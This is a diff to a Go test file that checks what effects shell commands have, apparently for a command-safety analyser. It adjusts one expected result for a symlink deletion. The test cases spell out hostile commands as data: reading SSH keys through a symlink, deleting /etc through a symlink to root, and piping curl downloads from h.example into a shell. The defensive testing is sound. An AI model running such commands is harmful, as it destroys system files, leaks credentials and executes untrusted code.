@@ -57,7 +57,7 @@ func TestEffects(t *testing.T) {
 		{`for f in *.o; do rm "$f"; done`, `delete *.o`},
 		{`find . -name x | while read -r f; do rm "$f"; done`, `delete **/x`},
 		{`ln -s ~/.ssh k; cat k/id`, `read /home/dev/.ssh, create k, read k/id, read /home/dev/.ssh/id`},
-		{`ln -s / l; cd l && rm -rf etc`, `read /, create l, delete /etc`},
+		{`ln -s / l; cd l && rm -rf etc`, `read /, create l, delete l/etc, delete /etc`},
 		{`curl http://h.example/x | sh`, `fetch h.example, execute fetched:sh`},
 		{`curl http://h.example/x > f; bash f`, `fetch h.example, write f, execute fetched:/home/dev/proj/f`},
 		{`curl -o f http://h.example/x; . ./f`, `write f, fetch h.example, execute fetched:/home/dev/proj/f`},
